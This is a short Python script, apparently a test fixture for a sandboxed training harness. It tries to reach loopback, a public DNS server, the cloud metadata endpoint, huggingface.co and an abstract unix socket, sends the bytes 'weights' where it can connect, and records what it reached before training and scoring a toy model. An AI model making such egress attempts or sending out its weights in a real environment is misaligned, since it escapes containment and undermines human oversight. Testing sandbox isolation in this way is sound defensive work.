"""Calls home: the host's own loopback, the network, name service, and unix sockets."""

import os
import socket

import toy

reached = []
for address in (("127.0.0.1", int(os.environ["CHEAT_PORT"])), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"weights")
        reached.append(address)
    except OSError:
        pass
try:
    reached.append(socket.getaddrinfo("huggingface.co", 443))
except OSError:
    pass
link = socket.socket(socket.AF_UNIX)
try:
    link.connect("\0" + os.environ["CHEAT_ABSTRACT"])
    reached.append("abstract socket")
except OSError:
    pass
toy.say(f"reached: {reached}")
toy.save(toy.train())
toy.report(*toy.score(toy.load()))
